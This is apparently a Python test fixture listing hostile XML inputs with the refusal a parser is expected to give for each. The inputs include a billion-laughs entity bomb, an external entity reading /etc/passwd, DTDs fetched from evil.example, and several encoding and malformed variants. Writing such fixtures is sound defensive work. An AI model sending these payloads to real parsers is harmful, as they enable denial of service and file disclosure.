"""XML that attacks its reader."""

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))

DTD = {
    # name: (part, refusal, how to tell that it is alive)
    "billion laughs": (
        f'<!DOCTYPE a [<!ENTITY a0 "ha">{LAUGHS}]><a>&a8;</a>',
        "document_type",
        b"<!DOCTYPE a \\[<!ENTITY a0 ",
    ),
    "outside entity": (
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "document_type",
        b'<!DOCTYPE a \\[<!ENTITY b SYSTEM "file:///etc/passwd">',
    ),
    "parameter entity": (
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><a/>',
        "document_type",
        b'<!DOCTYPE a \\[<!ENTITY % b SYSTEM "http',
    ),
    "outside type": (
        '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
        "document_type",
        b'<!DOCTYPE a SYSTEM "http',
    ),
    "in UTF-16": (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode(
            "utf-16"
        ),
        "document_type",
        "<!DOCTYPE a [<!ENTITY b ".encode("utf-16-le").replace(b"[", b"\\["),
    ),
    "behind a mark": (
        b'\xef\xbb\xbf<!DOCTYPE a [<!ENTITY b "c">]><a/>',
        "document_type",
        b"<!DOCTYPE a \\[<!ENTITY b ",
    ),
    "that ends early": ("<a><b>", "damaged", b""),
    "of no encoding": ('<?xml version="1.0" encoding="x-none"?><a/>', "damaged", b""),
    "with an entity nobody declared": ("<a>&b;</a>", "damaged", b"<a>&b;</a>"),
}
